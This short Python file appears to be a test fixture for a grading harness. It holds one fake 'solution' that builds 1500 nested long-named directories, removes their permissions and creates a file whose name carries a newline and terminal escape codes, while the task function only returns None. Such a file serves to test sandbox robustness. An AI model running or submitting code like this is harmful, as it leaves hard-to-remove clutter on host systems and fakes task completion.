"""Leaves a tree of folders and names that are hard to remove."""

SOLUTIONS = {
    "activations.zigzag": """
import os
try:
    for _ in range(1500):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    os.chmod(".", 0)
    open("\\n\\x1b[31m" + "x" * 200, "w").close()
except OSError as error:
    print(error)

def same_sign_fraction(H, delta):
    return None
"""
}
